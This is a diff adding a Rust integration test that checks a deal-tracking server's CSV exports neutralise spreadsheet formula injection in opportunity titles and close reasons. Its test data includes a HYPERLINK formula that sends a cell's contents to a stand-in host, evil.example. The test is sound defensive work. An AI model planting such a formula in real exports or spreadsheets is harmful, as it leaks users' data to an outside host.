@@ -1,0 +1,61 @@
+//! CSV exports (issue 17): the opportunity list's export holds what its filters show, and no
+//! export hands a spreadsheet a formula — a title or a close reason starting with `=`, `+`, `-`
+//! or `@` arrives neutralised, in the list's export and the analytics'. (Typed text is trimmed,
+//! so a leading tab or carriage return never gets this far; `pages::csv`'s own tests cover them.)
+
+use dealflow_server::services::{CloseInput, NewOpportunity};
+use reqwest::StatusCode;
+
+use crate::client::Api;
+use crate::on_both_backends;
+use crate::support::TestApp;
+use crate::web::{Browser, session_for};
+
+/// The starts a spreadsheet takes for a formula, each with what a person might have typed.
+const FORMULAS: [&str; 4] = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+79161234567", "-2+3", "@SUM(A1:A9)"];
+
+async fn exports_neutralise_every_formula_start_and_keep_to_the_filters(app: TestApp) {
+    let api = Api::start(app).await;
+    let app = &api.app;
+    let by = app.actor_of(&app.manager);
+    for formula in FORMULAS {
+        let title = formula.to_owned();
+        let id = app.services.create_opportunity(by, NewOpportunity { title, ..NewOpportunity::default() }).await.unwrap().id;
+        let lost = CloseInput { stage: "closed_lost".into(), close_reason: Some(formula.to_owned()), ..CloseInput::default() };
+        app.services.close(by, &id, &lost).await.unwrap();
+    }
+    app.services.create_opportunity(by, NewOpportunity { title: "Открытая, сумма −".into(), ..NewOpportunity::default() }).await.unwrap();
+    let browser = Browser::of(&api);
+    let supervisor = session_for(&api, &app.supervisor).await;
+
+    let listed = browser.get("/opportunities.csv?status=closed", &supervisor).await;
+    assert_eq!(listed.status, StatusCode::OK);
+    assert_eq!(listed.headers["content-type"], "text/csv; charset=utf-8");
+    assert!(listed.headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));
+    let body = listed.body.strip_prefix('\u{feff}').expect("a byte-order mark first");
+    let lines: Vec<&str> = body.split_terminator("\r\n").collect();
+    assert_eq!(lines.len(), 1 + FORMULAS.len(), "the header and the closed deals only: {lines:?}");
+    assert!(lines[0].starts_with("Title,Account,Stage"), "the supervisor reads English: {}", lines[0]);
+    for formula in FORMULAS {
+        let quoted = format!("'{formula}");
+        let cell = if formula.contains(['"', ',']) { format!("\"{}\"", quoted.replace('"', "\"\"")) } else { quoted };
+        assert_eq!(lines.iter().filter(|l| l.starts_with(&format!("{cell},"))).count(), 1, "{formula:?} in {lines:?}");
+    }
+
+    let analytics = browser.get("/analytics.csv", &supervisor).await;
+    assert_eq!(analytics.status, StatusCode::OK);
+    let body = analytics.body.strip_prefix('\u{feff}').expect("a byte-order mark first");
+    for formula in FORMULAS {
+        let neutral = format!("'{formula}");
+        assert!(body.contains(&neutral.replace('"', "\"\"")), "{formula:?} is not neutralised in {body}");
+    }
+    for line in body.split("\r\n") {
+        // No cell of any line starts a formula: each cell after a separator or at the start.
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '@']), "a live formula in {line:?}");
+        }
+    }
+}
+
+on_both_backends!(exports_neutralise_every_formula_start_and_keep_to_the_filters);
